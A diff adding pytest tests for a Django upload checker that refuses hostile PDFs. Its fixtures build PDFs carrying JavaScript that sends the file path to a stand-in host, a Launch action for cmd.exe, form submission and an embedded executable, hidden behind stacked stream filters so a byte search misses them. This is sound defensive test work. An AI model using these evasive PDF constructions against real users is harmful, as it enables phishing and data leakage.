@@ -9,17 +9,30 @@ compare form (not a PDF, too large) is tried in alur/letters/tests/test_verifica
 
 from __future__ import annotations
 
+import base64
+import binascii
 import io
+import re
 import struct
 import zipfile
 import zlib
 
 import pytest
+import weasyprint
 from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image
+from pypdf import PdfWriter
+from reportlab.lib.utils import ImageReader
+from reportlab.pdfgen import canvas
 
+from alur.intake import files
 from alur.intake.files import (
     ACTIVE_PDF,
     BOMB_PDF,
+    COMPLEX_PDF,
+    DAMAGED_PDF,
+    EMBEDDED_PDF,
+    ENCRYPTED_PDF,
     HUGE_IMAGE,
     NOT_ALLOWED,
     FileRejected,
@@ -34,11 +47,21 @@ EXE = b"MZ\x90\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode.%
 HTML = b"<!doctype html><html><script>fetch('/kantor/')</script></html>\n%%EOF"
 
 
-def pdf(*objects: bytes) -> bytes:
+def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
+    """A whole PDF of `objects` (numbered from 1), with its cross-reference table."""
     body = b"%PDF-1.5\n"
+    offsets = []
     for number, content in enumerate(objects, start=1):
+        offsets.append(len(body))
         body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
-    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
+    xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    xref += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    tail = b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        trailer,
+        len(body),
+    )
+    return body + xref + tail
 
 
 def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
@@ -170,6 +193,195 @@ def test_an_upload_is_read_only_up_to_one_byte_past_the_limit() -> None:
     assert (declared, name) == ("image/png", "bukti.pdf")
     with pytest.raises(FileRejected, match="terlalu besar"):
         check_upload(data, declared_mime=declared, filename=name)
+
+
+# --- PDFs read as a viewer reads them: every filter, every object stream ---------------------
+
+
+def packed_pdf(plain: list[bytes], packed: list[bytes], filters: bytes, encode) -> bytes:
+    """A PDF whose `packed` objects live in one object stream encoded by `encode` and declared
+    with `filters`, found through a cross-reference stream. `plain` objects are numbered from
+    1, the object stream follows them, then the packed objects, then the cross-reference
+    stream."""
+    stream_number = len(plain) + 1
+    first_packed = stream_number + 1
+    xref_number = first_packed + len(packed)
+    header, bodies = b"", b""
+    for index, content in enumerate(packed):
+        header += b"%d %d " % (first_packed + index, len(bodies))
+        bodies += content + b"\n"
+    encoded = encode(header + bodies)
+    objects = [
+        *plain,
+        b"<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
+        % (len(packed), len(header), filters, len(encoded))
+        + encoded
+        + b"\nendstream",
+    ]
+    body, offsets = b"%PDF-1.7\n", []
+    for number, content in enumerate(objects, start=1):
+        offsets.append(len(body))
+        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
+    xref_at = len(body)
+    rows = b"\x00" + b"\x00" * 6
+    rows += b"".join(b"\x01" + struct.pack(">IH", offset, 0) for offset in offsets)
+    rows += b"".join(b"\x02" + struct.pack(">IH", stream_number, i) for i in range(len(packed)))
+    rows += b"\x01" + struct.pack(">IH", xref_at, 0)
+    body += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+        % (xref_number, xref_number + 1, len(rows))
+        + rows
+        + b"\nendstream\nendobj\n"
+    )
+    return body + b"startxref\n%d\n%%%%EOF\n" % xref_at
+
+
+def hex_encode(data: bytes) -> bytes:
+    return binascii.hexlify(data) + b">"
+
+
+def flate_twice(data: bytes) -> bytes:
+    return zlib.compress(zlib.compress(data))
+
+
+def a85_flate(data: bytes) -> bytes:
+    return base64.a85encode(zlib.compress(data)) + b"~>"
+
+
+TWO_FLATE = b"[/FlateDecode /FlateDecode]"
+A85_FLATE = b"[/ASCII85Decode /FlateDecode]"
+OPENS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL('https://x.example/?'+this.path)) >>"
+ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+
+
+def page(extra: bytes = b"") -> bytes:
+    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b">>"
+
+
+def link(action: bytes) -> bytes:
+    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"
+
+
+HOSTILE_PDFS = {
+    "js-openaction-under-asciihex": (
+        packed_pdf([OPENS, PAGES], [JS_ACTION], b"/ASCIIHexDecode", hex_encode),
+        ACTIVE_PDF,
+    ),
+    "js-openaction-under-two-flate-layers": (
+        packed_pdf([OPENS, PAGES], [JS_ACTION], TWO_FLATE, flate_twice),
+        ACTIVE_PDF,
+    ),
+    "js-link-in-an-object-stream": (
+        packed_pdf(
+            [CATALOG, ONE_PAGE, page(b"/Annots [5 0 R] ")], [link(JS_ACTION)], A85_FLATE, a85_flate
+        ),
+        ACTIVE_PDF,
+    ),
+    "uri-openaction": (
+        pdf(ROOT + b"/OpenAction << /S /URI /URI (https://x.example/lacak) >> >>", PAGES),
+        ACTIVE_PDF,
+    ),
+    "launch-link-in-an-object-stream": (
+        packed_pdf(
+            [CATALOG, ONE_PAGE, page(b"/Annots [5 0 R] ")],
+            [link(b"<< /S /Launch /F (cmd.exe) >>")],
+            b"/ASCIIHexDecode",
+            hex_encode,
+        ),
+        ACTIVE_PDF,
+    ),
+    "embedded-file-attachment": (
+        pdf(
+            CATALOG,
+            ONE_PAGE,
+            page(b"/Annots [4 0 R] "),
+            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
+            b"<< /Type /Filespec /F (surat.exe) /EF << /F 6 0 R >> >>",
+            flate_stream(EXE),
+        ),
+        EMBEDDED_PDF,
+    ),
+    "submitform-field-in-an-object-stream": (
+        packed_pdf(
+            [b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>", PAGES],
+            [b"<< /FT /Btn /T (kirim) /A << /S /SubmitForm /F (https://x.example/) >> >>"],
+            TWO_FLATE,
+            flate_twice,
+        ),
+        ACTIVE_PDF,
+    ),
+    "annotation-with-additional-actions": (
+        pdf(
+            CATALOG,
+            ONE_PAGE,
+            page(b"/Annots [4 0 R] "),
+            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
+            b"/AA << /E << /S /URI /URI (https://x.example/) >> >> >>",
+        ),
+        ACTIVE_PDF,
+    ),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE_PDFS)
+def test_a_hostile_pdf_is_refused_whatever_filter_hides_it(case: str) -> None:
+    data, reason = HOSTILE_PDFS[case]
+    assert _check(data, "akta.pdf") == reason
+
+
+def test_the_hostile_pdfs_hide_their_names_from_a_byte_search() -> None:
+    """The hidden cases keep /JavaScript, /Launch and /SubmitForm out of the file's bytes."""
+    for case in ("under-asciihex", "two-flate", "js-link", "launch", "submitform"):
+        data = next(d for name, (d, _) in HOSTILE_PDFS.items() if case in name)
+        assert not re.search(rb"JavaScript|Launch|SubmitForm", data), case
+
+
+def test_a_pdf_made_by_weasyprint_with_a_link_is_accepted() -> None:
+    html = '<h1>Kartu Keluarga</h1><p><a href="https://alur.example/lacak/">Lacak</a></p>'
+    data = weasyprint.HTML(string=html).write_pdf()
+    assert check_upload(data, declared_mime="application/pdf", filename="kk.pdf").size == len(data)
+
+
+def test_a_scanned_pdf_made_by_reportlab_is_accepted() -> None:
+    out = io.BytesIO()
+    sheet = canvas.Canvas(out)
+    for number in range(3):
+        scan = io.BytesIO()
+        Image.new("L", (1240, 1754), 230 - number).save(scan, "JPEG", quality=70)
+        scan.seek(0)
+        sheet.drawImage(ImageReader(scan), 0, 0, 595, 842)
+        sheet.drawString(40, 40, "Akta Kelahiran")
+        sheet.showPage()
+    sheet.save()
+    data = out.getvalue()
+    assert check_upload(data, declared_mime="", filename="scan.pdf").mime == "application/pdf"
+
+
+def test_reading_a_pdf_stops_at_its_time_budget(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(files, "MAX_PDF_SECONDS", -1.0)
+    assert _check(pdf(CATALOG, PAGES, HARMLESS), "akta.pdf") == COMPLEX_PDF
+
+
+def test_an_encrypted_pdf_is_refused_with_a_message() -> None:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.encrypt("rahasia", algorithm="AES-128")
+    out = io.BytesIO()
+    writer.write(out)
+    assert _check(out.getvalue(), "akta.pdf") == ENCRYPTED_PDF
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
+        pdf(CATALOG, PAGES)[:-60] + b"startxref\n999999\n%%EOF\n",
+    ],
+    ids=["no-objects", "broken-table"],
+)
+def test_a_damaged_pdf_is_refused_as_damaged(data: bytes) -> None:
+    assert _check(data, "akta.pdf") == DAMAGED_PDF
 
 
 # --- the report workbooks and the PIAK coverage file (alur/reports) --------------------------
